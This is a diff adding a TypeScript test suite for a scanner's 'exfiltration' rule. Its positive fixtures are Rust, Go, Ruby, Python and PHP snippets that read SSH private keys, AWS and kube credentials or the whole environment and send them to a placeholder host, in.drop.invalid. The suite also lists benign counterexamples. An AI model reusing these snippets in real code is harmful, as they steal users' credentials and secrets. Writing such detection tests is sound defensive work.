@@ -1,0 +1,92 @@
+import { rulesIn } from "../testing/scan-file.js";
+
+/** Keys and the whole environment reach another host in the idioms of each language. */
+const TO = "https://in.drop.invalid/k";
+
+const SENDERS: readonly (readonly [what: string, path: string, text: string])[] = [
+  [
+    "Rust: all variables",
+    "a.rs",
+    `use std::env;\nfn main() {\n  let all: Vec<String> = env::vars().map(|(key, value)| format!("{key}={value}")).collect();\n  let _ = ureq::post("${TO}").send_string(&all.join("\\n"));\n}\n`,
+  ],
+  [
+    "Rust: variables of a loop",
+    "a.rs",
+    `use std::env;\nfn main() {\n  let mut all = String::new();\n  for (key, value) in env::vars() { all.push_str(&format!("{}={}", key, value)); }\n  let _ = ureq::post("${TO}").send_string(&all);\n}\n`,
+  ],
+  [
+    "Rust: a key in an arm",
+    "a.rs",
+    `use std::{env, fs};\nfn main() {\n  match env::var("HOME") {\n    Ok(home) => match fs::read_to_string(format!("{}/.aws/credentials", home)) {\n      Ok(text) => { let _ = ureq::post("${TO}").send_string(&text); }\n      _ => {}\n    },\n    Err(_) => {}\n  }\n}\n`,
+  ],
+  [
+    "Go: an open file is the body",
+    "a.go",
+    `package main\nimport ("net/http"; "os"; "path/filepath")\nfunc main() {\n  home, _ := os.UserHomeDir()\n  key, _ := os.Open(filepath.Join(home, ".ssh", "id_rsa"))\n  http.Post("${TO}", "application/octet-stream", key)\n}\n`,
+  ],
+  [
+    "Go: a path with variables",
+    "a.go",
+    `package main\nimport ("bytes"; "net/http"; "os")\nfunc main() {\n  data, _ := os.ReadFile(os.ExpandEnv("$HOME/.kube/config"))\n  request, _ := http.NewRequest("PUT", "${TO}", bytes.NewBuffer(data))\n  http.DefaultClient.Do(request)\n}\n`,
+  ],
+  [
+    "Go: a file is copied to a connection",
+    "a.go",
+    `package main\nimport ("io"; "net"; "os")\nfunc main() {\n  key, _ := os.Open(os.Getenv("HOME") + "/.ssh/id_rsa")\n  connection, _ := net.Dial("tcp", "in.drop.invalid:99")\n  io.Copy(connection, key)\n}\n`,
+  ],
+  [
+    "Ruby: a file is copied to a connection",
+    "a.rb",
+    `require "socket"\nconnection = TCPSocket.new("in.drop.invalid", 99)\nIO.copy_stream(File.open(File.join(Dir.home, ".ssh", "id_rsa")), connection)\n`,
+  ],
+  [
+    "Python: a file is sent through a connection",
+    "a.py",
+    `import os, socket\nwith socket.create_connection(("in.drop.invalid", 99)) as connection:\n    with open(os.path.expanduser("~/.ssh/id_rsa"), "rb") as key:\n        connection.sendfile(key)\n`,
+  ],
+  [
+    "PHP: all variables, by their array",
+    "a.php",
+    `<?php\n$request = curl_init("${TO}");\ncurl_setopt($request, CURLOPT_POSTFIELDS, json_encode($_ENV));\ncurl_exec($request);\n`,
+  ],
+  [
+    "PHP: all variables, by a call",
+    "a.php",
+    `<?php\n$request = curl_init("${TO}");\ncurl_setopt($request, CURLOPT_POSTFIELDS, json_encode(getenv()));\ncurl_exec($request);\n`,
+  ],
+  [
+    "PHP: options in an array",
+    "a.php",
+    `<?php\n$request = curl_init();\ncurl_setopt_array($request, [CURLOPT_URL => "${TO}", CURLOPT_POSTFIELDS => file_get_contents(getenv("HOME") . "/.ssh/id_rsa")]);\ncurl_exec($request);\n`,
+  ],
+];
+
+test.each(SENDERS)("are not sent: %s", async (_, path, text) => {
+  expect(await rulesIn(path, text)).toContain("exfiltration");
+});
+
+/** The same calls with data that is nobody's secret, or with the key of the service that is called. */
+test.each([
+  [
+    "a.rs",
+    `use std::fs;\nfn main() {\n  if let Ok(text) = fs::read_to_string("report.md") {\n    let _ = ureq::post("https://api.example.com/reports").send_string(&text);\n  }\n}\n`,
+  ],
+  [
+    "a.rs",
+    `use std::process::Command;\nfn main() {\n  if let Ok(out) = Command::new("git").args(["rev-parse", "HEAD"]).output() {\n    if let Ok(hash) = String::from_utf8(out.stdout) {\n      println!("cargo:rustc-env=HASH={}", hash.trim());\n    }\n  }\n}\n`,
+  ],
+  [
+    "a.go",
+    `package main\nimport ("net/http"; "os")\nfunc main() {\n  file, _ := os.Open("report.md")\n  http.Post("https://api.example.com/reports", "text/markdown", file)\n}\n`,
+  ],
+  [
+    "a.php",
+    `<?php\n$request = curl_init();\ncurl_setopt_array($request, [CURLOPT_URL => "https://api.openai.com/v1/chat/completions", CURLOPT_HTTPHEADER => ["Authorization: Bearer " . getenv("OPENAI_API_KEY")], CURLOPT_POSTFIELDS => json_encode(["q" => $argv[1]])]);\necho curl_exec($request);\n`,
+  ],
+  [
+    "a.rb",
+    `require "socket"\nconnection = TCPSocket.new("127.0.0.1", 99)\nIO.copy_stream(File.open("report.md"), connection)\n`,
+  ],
+])("other data may be sent: %s %#", async (path, text) => {
+  expect(await rulesIn(path, text)).toEqual([]);
+});
